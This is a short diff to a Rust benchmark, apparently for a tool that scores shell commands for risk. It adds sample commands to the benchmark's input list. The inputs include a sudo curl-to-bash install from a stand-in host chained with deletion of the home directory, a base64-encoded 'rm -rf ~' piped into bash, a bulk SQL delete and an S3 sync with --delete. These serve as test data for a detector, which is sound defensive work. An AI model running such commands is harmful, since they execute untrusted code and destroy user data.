@@ -16,6 +16,15 @@ const COMMANDS: &[(&str, &str)] = &[
         "nested",
         "sudo sh -c 'curl -fsSL https://example.com/i.sh | bash' && rm -rf \"$HOME\"/*",
     ),
+    (
+        "sql",
+        "psql -d shop -c \"DELETE FROM orders WHERE created < now() - interval '1 year'\"",
+    ),
+    (
+        "cloud",
+        "aws s3 sync ./site s3://example-bucket --delete --exclude '*.tmp'",
+    ),
+    ("decoded", "echo cm0gLXJmIH4= | base64 -d | bash"),
 ];
 
 fn analyse(c: &mut Criterion) {
